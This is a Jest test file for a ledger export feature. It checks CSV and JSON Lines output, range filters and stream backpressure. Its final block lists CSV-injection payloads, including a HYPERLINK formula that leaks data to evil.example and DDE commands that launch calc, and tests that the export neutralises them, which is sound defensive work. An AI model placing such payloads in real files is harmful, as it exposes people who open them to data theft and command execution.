import { PassThrough, Writable } from 'node:stream';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import type { DataSource } from 'typeorm';
import type { Ledger, LedgerRange } from '../../src/application/ledger-ports.js';
import type { Database, Records } from '../../src/application/ports.js';
import { sealLedger } from '../../src/application/seal-ledger.js';
import { writeLedger } from '../../src/commands/export-ledger-command.js';
import { LEDGER_CSV_COLUMNS } from '../../src/commands/ledger-formats.js';
import type { LedgerPerson } from '../../src/domain/ledger.js';
import { createDataSource } from '../../src/persistence/data-source.js';
import { createDatabase } from '../../src/persistence/database.js';
import { ACME, aClock, aLog, MONA, NOW, OLIVIA } from '../support/builders.js';
import { parseCsv } from '../support/parse-csv.js';
import { createTestDatabase, type TestDatabase } from '../support/test-database.js';
import { anEntry, append, emptyLedger } from './ledger-world.js';

const ledgerKeys = { current: Buffer.alloc(32, 1), previous: [] };

let testDatabase: TestDatabase;
let source: DataSource;
let database: Database;

beforeAll(async () => {
  testDatabase = await createTestDatabase();
  source = await createDataSource({ url: testDatabase.url }).initialize();
  database = createDatabase(source, () => NOW, { ledgerKeys });
  await database.organizations.save(ACME);
  await database.organizations.save({ id: 1_002, login: 'beta', installationId: null });
});
beforeEach(() => emptyLedger((sql) => source.query(sql)));
afterAll(async () => {
  await source.destroy();
  await testDatabase.drop();
});

const seal = () => sealLedger({ database, clock: aClock(), log: aLog(), ledgerKeys }, new Set());

async function written(format: 'csv' | 'jsonl', range: LedgerRange = {}): Promise<string> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  await writeLedger({ database, out }, format, range);
  return Buffer.concat(chunks).toString('utf8');
}
const jsonLines = async (range?: LedgerRange): Promise<Record<string, unknown>[]> =>
  (await written('jsonl', range))
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line));

/** The ledger of a database, with a count of the pages that are read. */
function counted(): { database: Pick<Database, 'snapshot'>; pages: () => number } {
  let pages = 0;
  const counting = (ledger: Ledger): Ledger => ({
    ...ledger,
    range: (...asked) => {
      pages += 1;
      return ledger.range(...asked);
    },
  });
  return {
    pages: () => pages,
    database: {
      snapshot: (work) =>
        database.snapshot((records: Records) =>
          work(Object.create(records, { ledger: { value: counting(records.ledger) } })),
        ),
    },
  };
}

describe('an export of the ledger', () => {
  it('as JSON has a line for each entry, in order, with its seal and its people', async () => {
    await database.ledger.append(
      anEntry({ kind: 'decided', decisionId: 5, data: { organization: 'acme', action: 'approve' } }),
    );
    await seal();
    await database.ledger.append(anEntry());
    await source.query('DELETE FROM ledger_people WHERE entry_id = 2');

    const [first, second, ...others] = await jsonLines();

    expect(others).toEqual([]);
    expect(first).toMatchObject({
      ...{ seq: 1, id: 1, kind: 'decided', at: NOW.toISOString(), decisionId: 5 },
      seal: expect.stringMatching(/^[0-9a-f]{64}$/),
      keyId: expect.stringMatching(/^[0-9a-f]{8}$/),
      people: {
        requester: {
          githubUserId: MONA.id,
          login: 'mona',
          tokenName: 'deploy-bot',
          salt: expect.any(String),
        },
      },
    });
    expect(second).toMatchObject({ seq: null, seal: null, id: 2, people: { requester: 'erased' } });
  });

  it('as CSV has a header and a line for each entry', async () => {
    await append(database, 3);
    await seal();

    const [header, ...lines] = parseCsv(await written('csv'));

    expect(header).toEqual(LEDGER_CSV_COLUMNS);
    expect(lines).toHaveLength(3);
    expect(lines[2]?.slice(0, 9)).toEqual([
      ...['3', expect.stringMatching(/^[0-9a-f]{64}$/), '3', expect.any(String)],
      ...[NOW.toISOString(), 'request-seen', 'acme', String(ACME.id), '9003'],
    ]);
  });

  it('can be of a time, and of one organization', async () => {
    const minutes = (count: number) => new Date(NOW.getTime() + count * 60_000);
    await database.ledger.append(
      ...[0, 1, 2, 3].map((minute) =>
        anEntry({ at: minutes(minute), organizationId: minute % 2 === 0 ? ACME.id : 1_002 }),
      ),
      anEntry({ at: minutes(1), organizationId: null }),
    );
    const ids = async (range: LedgerRange) => (await jsonLines(range)).map(({ id }) => id);

    const found = [
      await ids({ since: minutes(1) }),
      await ids({ until: minutes(1) }),
      await ids({ since: minutes(1), until: minutes(2) }),
      await ids({ organization: 'BETA' }),
      await ids({ organization: 'nobody' }),
    ];

    expect(found).toEqual([[2, 3, 4, 5], [1], [2, 5], [2, 4], []]);
  });

  it.each(['csv', 'jsonl'] as const)('as %s is read page by page, as fast as it is taken', async (format) => {
    await append(database, 5_000);
    const { database: counting, pages } = counted();
    let taken = 0;
    let most = 0;
    const out = new Writable({
      highWaterMark: 1_024,
      write(chunk: Buffer, _encoding, done) {
        taken += chunk.toString().split('\n').length - 1;
        // What is between the database and us: never more than a page, and the little that streams hold back.
        most = Math.max(most, pages() * 500 - taken);
        setImmediate(done);
      },
    });

    await writeLedger({ database: counting, out }, format, {});

    expect(pages()).toBe(11);
    expect(taken).toBe(format === 'csv' ? 5_001 : 5_000);
    expect(most).toBeLessThan(1_000);
  });

  it('reads no further page while nobody takes anything', async () => {
    await append(database, 5_000);
    const { database: counting, pages } = counted();
    let goOn = () => {};
    const stuck = new Promise<void>((resolve) => {
      goOn = resolve;
    });
    let begun = () => {};
    const hasBegun = new Promise<void>((resolve) => {
      begun = resolve;
    });
    const waiting = new Writable({
      highWaterMark: 1,
      write(_chunk, _encoding, done) {
        begun();
        void stuck.then(() => done());
      },
    });

    const writing = writeLedger({ database: counting, out: waiting }, 'jsonl', {});
    await hasBegun;
    // Something else, that takes much longer than a page: by then it would have been read.
    await source.query('SELECT count(*) FROM ledger_entries a, generate_series(1, 200) b');
    const pagesMeanwhile = pages();
    goOn();
    await writing;

    expect(pagesMeanwhile).toBe(1);
  });
});

/** What opens as a formula in one spreadsheet or another (https://owasp.org/www-community/attacks/CSV_Injection). */
const FORMULA = /^[=+\-@\t\r＝＋－＠]/;
const HOSTILE = [
  '=HYPERLINK("https://evil.example?leak="&A1,"Click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'a","=1+1',
  'two\n=1+1\r\n=2+2',
  'a;=1+1;\t@SUM(1)',
];

describe('hostile text in a CSV', () => {
  it.each(HOSTILE)('is in one cell, and no formula: %j', async (text) => {
    const people: LedgerPerson[] = [
      {
        role: 'approver',
        githubUserId: OLIVIA.id,
        slackUserId: 'U0OLIVIA',
        fields: { login: 'olivia', reason: text },
      },
      {
        role: 'requester',
        githubUserId: MONA.id,
        slackUserId: null,
        fields: { login: text, tokenName: text, reason: text },
      },
    ];
    await database.ledger.append(anEntry({ data: { organization: text, repositories: [text] }, people }));

    const csv = await written('csv');
    const [header, line, ...others] = parseCsv(csv);
    // As where the semicolon separates cells, and our quotes are a part of them.
    const elsewhere = csv.split(/[;\r\n]/);

    expect(others).toEqual([]);
    expect(elsewhere.filter((cell) => FORMULA.test(cell.trim()))).toEqual([]);
    expect(line).toHaveLength(LEDGER_CSV_COLUMNS.length);
    expect(line?.filter((cell) => FORMULA.test(cell))).toEqual([]);
    const cell = (name: string) =>
      line?.[header?.indexOf(name) ?? -1]?.replace(/'(?=\s*[=+\-@＝＋－＠\t\r])/g, '');
    for (const name of ['organization', 'repositories', 'decision_reason', 'requester_login', 'token_name']) {
      expect(cell(name)).toBe(text);
    }
  });
});
